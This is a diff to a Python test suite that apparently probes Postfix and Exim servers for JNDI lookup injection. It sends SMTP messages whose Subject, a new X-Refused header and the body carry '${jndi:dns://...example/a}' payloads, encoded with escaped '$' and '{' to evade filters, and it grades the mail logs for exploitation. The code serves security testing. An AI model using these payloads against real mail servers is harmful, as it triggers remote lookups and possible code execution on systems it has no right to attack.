@@ -135,10 +135,14 @@ def sessions(new):
     # Longer than Postfix logs of a header, so that the brace may be missing: its log shows 200 bytes.
     for encode in (lambda t: email.header.Header(t, "utf-8", maxlinelen=60).encode().replace("\n", "\r\n"),
                    lambda t: "=?utf-8?q?" + "".join("=%02X" % b for b in t.encode()) + "?="):
-        s, p = begin({"email.subject", "message"}, "${jndi:dns://%s.example/a}")
+        s, p = begin({"email.subject", "message"}, "${jndi:dns://%s.example/a}", hidden=True)
         s.say(b"EHLO x.example", b"MAIL FROM:<a@x.example>", b"RCPT TO:<b@shop.example>")
         s.letter(b"Subject: " + encode(p.decode()).encode(), body=b"see below")
         yield s
+    s, p = begin({"email.header.x-refused", "message"})
+    s.say(b"EHLO x.example", b"MAIL FROM:<a@x.example>", b"RCPT TO:<b@shop.example>")
+    s.letter(b"X-Refused: =?utf-8?q?" + p.replace(b"$", b"=24").replace(b"{", b"=7B") + b"?=")
+    yield s
     s, p = begin({"email.body"})
     s.say(b"EHLO x.example", b"MAIL FROM:<a@x.example>", b"RCPT TO:<b@shop.example>")
     s.letter(b"Subject: a", body=b"jndi " + p.replace(b"$", b"=24").replace(b"{", b"=7B"))
@@ -181,7 +185,7 @@ class Mail(server_case.Case):
         sent = let_all_talk("p")
         server.run("postfix", "stop", stderr=server.said) # its master lives on otherwise
         server.stop()
-        look(self, CALTROP, server.path("/var/log/maillog"), sent, "postfix", least=20, grades=("exploit", "reach"))  # "?" for quotes makes a name a query
+        look(self, CALTROP, server.path("/var/log/maillog"), sent, "postfix", least=20, grades=("exploit", "reach"), hidden=True)  # "?" for quotes makes a name a query
 
     def exim(self, selector):
         server = self.server_of("exim4", {"/etc/passwd": "Debian-exim:x:1903:1903::/var/spool/exim4:/usr/sbin/nologin\n",
